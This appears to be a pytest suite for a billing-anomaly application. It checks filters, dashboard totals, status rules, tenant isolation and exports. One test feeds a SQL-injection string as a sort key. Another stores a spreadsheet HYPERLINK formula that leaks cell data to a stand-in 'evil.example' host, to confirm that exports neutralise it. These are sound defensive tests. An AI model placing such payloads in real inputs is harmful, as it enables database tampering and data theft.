"""The read side the app and API stand on: queue filters, dashboard aggregates, status changes.

Run on SQLite and PostgreSQL against the demo organization (a real reconciliation's output).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections import defaultdict
from collections.abc import Iterator
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa

from core.money import plain_decimal
from db.models import Account
from db.session import org_session
from services import accounts, activity, anomalies, crm_tasks, dashboard, demo, exports, integrations, users
from services.anomalies import LEAK_TYPES, AnomalyFilters
from services.context import Actor
from services.errors import InvalidInput, NotFound
from tests.fakes import salesforce_server
from tests.fakes.salesforce_server import FakeSalesforce

ALL = AnomalyFilters()


@pytest.fixture
def demo_actors(app_db: str, tmp_path: Path) -> tuple[Actor, Actor]:
    org = demo.seed_demo(tmp_path / "bundle", accounts=40, seed=11)
    analyst = users.get_user_by_email(demo.DEMO_ANALYST[0])
    admin = users.get_user_by_email(demo.DEMO_ADMIN[0])
    assert analyst is not None and admin is not None
    return Actor.user(org.id, admin.id, "admin"), Actor.user(org.id, analyst.id, "analyst")


def everything(actor: Actor, filters: AnomalyFilters = ALL) -> list[anomalies.AnomalyRow]:
    page = anomalies.list_anomalies(actor, filters, page_size=500)
    assert page.total == len(page.rows)
    return page.rows


def test_filters_return_exactly_the_matching_rows(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    rows = everything(analyst)
    assert len(rows) > 10 and {r.type for r in rows} >= {"under_reported_usage", "over_billing"}
    for filters, keep in [
        (AnomalyFilters(types=("over_billing",)), lambda r: r.type == "over_billing"),
        (AnomalyFilters(currency="EUR"), lambda r: r.currency == "eur"),
        (AnomalyFilters(min_confidence=Decimal("0.9")), lambda r: r.confidence >= Decimal("0.9")),
        (AnomalyFilters(severities=("high", "critical")), lambda r: r.severity in ("high", "critical")),
        (AnomalyFilters(account=rows[0].account_name[:5].upper()),
         lambda r: rows[0].account_name[:5].lower() in (r.account_name or "").lower()),
        (AnomalyFilters(period_from=rows[0].period_start.date()), lambda r: r.period_start >= rows[0].period_start),
    ]:
        assert sorted(r.id for r in everything(analyst, filters)) == sorted(r.id for r in rows if keep(r)), filters


def test_sorting_and_pages_cover_every_row_once(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    total = anomalies.list_anomalies(analyst, ALL, page_size=7)
    seen = []
    for number in range(1, total.pages + 1):
        page = anomalies.list_anomalies(analyst, ALL, page=number, page_size=7, sort="amount")
        seen.extend(page.rows)
    assert len(seen) == total.total == len({r.id for r in seen})
    amounts = [r.amount for r in seen]
    assert amounts == sorted(amounts, reverse=True)
    ascending = anomalies.list_anomalies(analyst, ALL, page_size=500, sort="confidence", descending=False).rows
    assert [r.confidence for r in ascending] == sorted(r.confidence for r in ascending)
    with pytest.raises(InvalidInput, match="sort"):
        anomalies.list_anomalies(analyst, ALL, sort="amount; drop table anomalies")
    with pytest.raises(InvalidInput, match="types: unknown"):
        anomalies.list_anomalies(analyst, AnomalyFilters(types=("nonsense",)))


def test_dashboard_totals_are_per_currency_and_match_the_queue(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    rows = everything(analyst)
    expected: dict[str, Decimal] = defaultdict(Decimal)
    over: dict[str, Decimal] = defaultdict(Decimal)
    for r in rows:
        if r.type in LEAK_TYPES and r.status in ("open", "actioned"):
            expected[r.currency] += r.amount
        if r.type == "over_billing" and r.status == "open":
            over[r.currency] += r.amount
    summary = dashboard.summary(analyst)
    assert summary.open_leak == dict(expected)
    assert summary.over_billing == dict(over)
    assert summary.accounts_affected == len({r.account_id for r in rows if r.type in LEAK_TYPES})
    assert sum(b["count"] for b in summary.confidence) == len(rows)
    assert sum(p["amount"] for p in summary.by_period) == sum(expected.values())
    assert summary.last_run is not None and summary.last_run.status == "succeeded"
    assert [a["amount"] for a in summary.top_accounts] == sorted((a["amount"] for a in summary.top_accounts),
                                                                 reverse=True)

    leak = next(r for r in rows if r.type in LEAK_TYPES)
    anomalies.set_status(analyst, leak.id, "recovered")
    after = dashboard.summary(analyst)
    assert after.recovered == {leak.currency: leak.amount}
    assert after.open_leak.get(leak.currency, Decimal(0)) == expected[leak.currency] - leak.amount


def test_status_changes_follow_the_rules_and_are_audited(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    first, second = everything(analyst)[:2]
    with pytest.raises(InvalidInput, match="reason"):
        anomalies.set_status(analyst, first.id, "dismissed", "  ")
    with pytest.raises(InvalidInput, match="set by actions and runs"):
        anomalies.set_status(analyst, first.id, "actioned")
    detail = anomalies.set_status(analyst, first.id, "dismissed", "customer on a negotiated credit")
    assert (detail.row.status, detail.status_reason) == ("dismissed", "customer on a negotiated credit")
    assert [h["action"] for h in detail.history] == ["anomaly.dismissed"]
    with pytest.raises(InvalidInput, match="cannot become dismissed"):  # all or nothing
        anomalies.bulk_set_status(analyst, [second.id, first.id], "dismissed", "again")
    assert anomalies.get_anomaly(analyst, second.id).row.status == "open"
    assert anomalies.set_status(analyst, first.id, "open").row.status == "open"
    over = next(row for row in everything(analyst) if row.type == "over_billing")
    with pytest.raises(InvalidInput, match="credit risk: there is nothing to recover"):
        anomalies.bulk_set_status(analyst, [second.id, over.id], "recovered")
    assert anomalies.get_anomaly(analyst, second.id).row.status == "open"
    noted = anomalies.add_note(analyst, first.id, "Called the customer's finance team")
    assert noted.notes[-1]["text"] == "Called the customer's finance team"
    assert activity.verify_audit(analyst).ok


def test_another_org_sees_nothing(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    target = everything(analyst)[0]
    other_org, other_admin = users.create_organization("Other", "other", "o@other.example", "O", "password-9")
    other = Actor.user(other_org.id, other_admin.id, "admin")
    assert anomalies.list_anomalies(other).total == 0
    assert dashboard.summary(other).empty
    with pytest.raises(NotFound):
        anomalies.get_anomaly(other, target.id)
    with pytest.raises(NotFound):
        anomalies.set_status(other, target.id, "recovered")
    with pytest.raises(NotFound):
        accounts.account_view(other, target.account_id)
    assert accounts.search_accounts(other, "") == []
    assert anomalies.get_anomaly(analyst, target.id).row.status == "open"


def test_export_has_every_filtered_row_with_exact_amounts(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    filters = AnomalyFilters(types=("under_reported_usage",))
    rows = everything(analyst, filters)
    data, name = anomalies.export_anomalies(analyst, filters, "csv")
    exported = list(csv.DictReader(io.StringIO(data.decode())))
    assert name == "anomalies.csv" and len(exported) == len(rows)
    by_id = {int(r["id"]): r for r in exported}
    for row in rows:
        assert Decimal(by_id[row.id]["amount"]) == row.amount
    data, name = anomalies.export_anomalies(analyst, filters, "parquet")
    table = pq.read_table(io.BytesIO(data))
    assert name == "anomalies.parquet" and table.num_rows == len(rows)


def test_account_drill_down(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    row = everything(analyst)[0]
    found = accounts.search_accounts(analyst, row.account_id.upper())
    assert [a.account_id for a in found] == [row.account_id]
    view = accounts.account_view(analyst, row.account_id)
    assert row.id in {a.id for a in view.anomalies}
    assert {(p["product_key"], p["period_start"]) for p in view.periods} == {
        (a.product_key, a.period_start) for a in view.anomalies}
    with pytest.raises(NotFound):
        accounts.account_view(analyst, "acct_missing")


def test_account_search_lists_accounts_with_anomalies_first(demo_actors: tuple[Actor, Actor]) -> None:
    _, analyst = demo_actors
    found = accounts.search_accounts(analyst, "")
    counts = defaultdict(int)
    for row in everything(analyst, AnomalyFilters()):
        counts[row.account_id] += 1
    assert [a.anomaly_count for a in found] == [counts[a.account_id] for a in found]
    assert [a.anomaly_count for a in found] == sorted((a.anomaly_count for a in found), reverse=True)
    assert found[0].anomaly_count > 0 and found[-1].anomaly_count == 0  # the demo has clean accounts too
    clean = found[-1]
    assert accounts.get_account(analyst, clean.account_id) == clean
    assert accounts.get_account(analyst, "acct_missing") is None


def test_audit_log_names_people_by_email(demo_actors: tuple[Actor, Actor]) -> None:
    admin, analyst = demo_actors
    target = everything(analyst, AnomalyFilters(types=LEAK_TYPES, statuses=("open",)))[0]
    anomalies.set_status(analyst, target.id, "recovered")
    rows, _ = activity.list_audit(admin)
    latest = rows[0]
    assert latest.actor == f"user:{analyst.user_id}" and latest.who == demo.DEMO_ANALYST[0]
    assert all(not row.who.startswith("user:") for row in rows)


def test_recovered_total_ignores_the_status_filter_but_keeps_the_others(demo_actors: tuple[Actor, Actor]) -> None:
    """The Overview's default filter is open + actioned: the Recovered tile must still show what was recovered."""
    _, analyst = demo_actors
    leak = next(r for r in everything(analyst) if r.type in LEAK_TYPES and r.status == "open")
    anomalies.set_status(analyst, leak.id, "recovered")
    default = AnomalyFilters(statuses=("open", "actioned"))
    summary = dashboard.summary(analyst, default)
    assert summary.recovered == {leak.currency: leak.amount}
    assert dashboard.summary(analyst, AnomalyFilters(statuses=("open",), types=(leak.type,))).recovered == {
        leak.currency: leak.amount}
    # every other filter still applies to the recovered figure
    other_currency = "eur" if leak.currency != "eur" else "usd"
    other_types = tuple(t for t in LEAK_TYPES if t != leak.type)
    for narrower in (AnomalyFilters(statuses=("open",), currency=other_currency),
                     AnomalyFilters(statuses=("open",), types=other_types),
                     AnomalyFilters(statuses=("open",), period_from=leak.period_start.date() + timedelta(days=1))):
        assert dashboard.summary(analyst, narrower).recovered == {}, narrower
    # and the status filter still applies to everything else: the recovered row is not counted as open
    shown = everything(analyst, default)
    assert summary.open_count == sum(1 for r in shown if r.type in LEAK_TYPES)
    assert sum(b["count"] for b in summary.confidence) == len(shown)


def test_a_reason_typed_as_a_formula_is_exported_as_text(demo_actors: tuple[Actor, Actor]) -> None:
    """Finance opens exports in a spreadsheet: text must never arrive as a formula to run."""
    _, analyst = demo_actors
    target = everything(analyst)[0]
    reason = '=HYPERLINK("http://evil.example/?x="&A1,"details")'
    anomalies.set_status(analyst, target.id, "dismissed", reason)
    with org_session(analyst.org_id) as session:  # a customer name from the billing system, say
        session.execute(sa.update(Account).where(Account.account_id == target.account_id).values(name="-2+3"))
    data, _ = anomalies.export_anomalies(analyst, anomalies.AnomalyFilters(statuses=("dismissed",)))
    (row,) = csv.DictReader(io.StringIO(data.decode()))
    assert row["account_name"] == "'-2+3" and row["amount"] == plain_decimal(target.amount)
    archive = exports.export_audit(analyst, target.period_start.date(), target.period_end.date(), "csv").content
    assert archive is not None
    with zipfile.ZipFile(io.BytesIO(archive)) as files:
        (exported,) = [r for r in csv.DictReader(io.StringIO(files.read("anomalies.csv").decode()))
                       if r["id"] == str(target.id)]
    assert exported["status_reason"] == "'" + reason


# What each Overview figure counts, written out independently of services.dashboard.FIGURES (docs/app.md, Overview)
OVERVIEW_RULE = {
    "open_leak": (LEAK_TYPES, ("open", "actioned")),
    "in_recovery": (LEAK_TYPES, ("actioned",)),
    "recovered": (LEAK_TYPES, ("recovered",)),
    "over_billing": (("over_billing",), ("open",)),
    "over_billing_handled": (("over_billing",), ("actioned",)),
}


@pytest.fixture
def salesforce(demo_actors: tuple[Actor, Actor]) -> Iterator[FakeSalesforce]:
    """The demo org connected to a fake Salesforce holding every demo account, so CRM tasks mark anomalies actioned."""
    admin, analyst = demo_actors
    with salesforce_server.running() as fake:
        for account in accounts.search_accounts(analyst, ""):
            fake.add_account(account.crm_id or "", account.name)
        integrations.connect(admin, "salesforce", {
            "username": fake.username, "password": fake.password, "security_token": fake.security_token,
            "domain": "login", "instance_url": fake.base_url, "timeout": 5})
        yield fake


def queue_figure(actor: Actor, filters: AnomalyFilters, types: tuple[str, ...],
                 statuses: tuple[str, ...]) -> tuple[dict[str, Decimal], int, set[str]]:
    """Per-currency total, count and accounts the queue lists for `types` in `statuses` under the other filters."""
    wanted = tuple(t for t in types if not filters.types or t in filters.types)
    if not wanted:
        return {}, 0, set()
    rows = everything(actor, replace(filters, types=wanted, statuses=statuses))
    totals: dict[str, Decimal] = defaultdict(Decimal)
    for row in rows:
        totals[row.currency] += row.amount
    return dict(totals), len(rows), {row.account_id for row in rows}


def test_every_overview_figure_is_the_queue_total_for_its_type_group_and_status(
        demo_actors: tuple[Actor, Actor], salesforce: FakeSalesforce) -> None:
    _, analyst = demo_actors
    rows = everything(analyst)
    leaks = [r for r in rows if r.type in LEAK_TYPES and r.currency == "usd"]
    over = [r for r in rows if r.type == "over_billing"]
    for row in (leaks[0], leaks[1], over[0]):  # every figure gets something to count
        crm_tasks.create_crm_task(analyst, row.id, "salesforce")
    anomalies.set_status(analyst, leaks[1].id, "recovered")
    anomalies.set_status(analyst, leaks[2].id, "dismissed", "credited by hand")  # in no figure
    everywhere = dashboard.summary(analyst)
    assert all(getattr(everywhere, name) for name in OVERVIEW_RULE), everywhere
    for filters in (ALL, AnomalyFilters(statuses=("open", "actioned")), AnomalyFilters(statuses=("dismissed",)),
                    AnomalyFilters(currency="EUR"), AnomalyFilters(types=("over_billing", leaks[0].type)),
                    AnomalyFilters(min_confidence=Decimal("0.8"), period_from=leaks[0].period_start.date())):
        summary = dashboard.summary(analyst, filters)
        owed: set[str] = set()
        for name, (types, statuses) in OVERVIEW_RULE.items():
            amounts, count, accounts_in = queue_figure(analyst, filters, types, statuses)
            assert (getattr(summary, name), summary.counts[name]) == (amounts, count), (name, filters)
            owed |= accounts_in if name == "open_leak" else set()
        assert summary.accounts_affected == len(owed), filters
        assert {row["type"] for row in summary.by_type} <= set(LEAK_TYPES)  # over-billing is never a leak chart
    assert dashboard.summary(analyst, AnomalyFilters(statuses=("dismissed",))).over_billing == everywhere.over_billing
    with pytest.raises(InvalidInput, match="statuses: unknown bogus"):
        dashboard.summary(analyst, AnomalyFilters(statuses=("bogus",)))


def figures(summary: dashboard.DashboardSummary, currency: str) -> dict[str, tuple[Decimal, int]]:
    return {name: (getattr(summary, name).get(currency, Decimal(0)), summary.counts[name]) for name in OVERVIEW_RULE}


def assert_moved(before: dashboard.DashboardSummary, after: dashboard.DashboardSummary,
                 row: anomalies.AnomalyRow, old: str, new: str) -> None:
    """Exactly `row`'s amount (and one anomaly) left the figures counting status `old` for those counting `new`."""
    expected = figures(before, row.currency)
    for name, (types, statuses) in OVERVIEW_RULE.items():
        if row.type in types:
            change = (new in statuses) - (old in statuses)
            amount, count = expected[name]
            expected[name] = (amount + change * row.amount, count + change)
    assert figures(after, row.currency) == expected
    assert figures(after, row.currency) != figures(before, row.currency)


def test_a_status_change_moves_the_amount_from_one_figure_to_the_next(
        demo_actors: tuple[Actor, Actor], salesforce: FakeSalesforce) -> None:
    _, analyst = demo_actors
    default = AnomalyFilters(statuses=("open", "actioned"))
    leak = everything(analyst, AnomalyFilters(types=LEAK_TYPES, statuses=("open",)))[0]
    over = everything(analyst, AnomalyFilters(types=("over_billing",), statuses=("open",)))[0]
    steps = [
        (lambda: crm_tasks.create_crm_task(analyst, leak.id, "salesforce"), leak, "open", "actioned"),
        (lambda: anomalies.set_status(analyst, leak.id, "recovered"), leak, "actioned", "recovered"),
        (lambda: anomalies.set_status(analyst, leak.id, "open"), leak, "recovered", "open"),
        (lambda: crm_tasks.create_crm_task(analyst, over.id, "salesforce"), over, "open", "actioned"),
    ]
    for change, row, old, new in steps:
        before = dashboard.summary(analyst, default)
        change()
        assert_moved(before, dashboard.summary(analyst, default), row, old, new)
    assert anomalies.get_anomaly(analyst, over.id).row.status == "actioned"
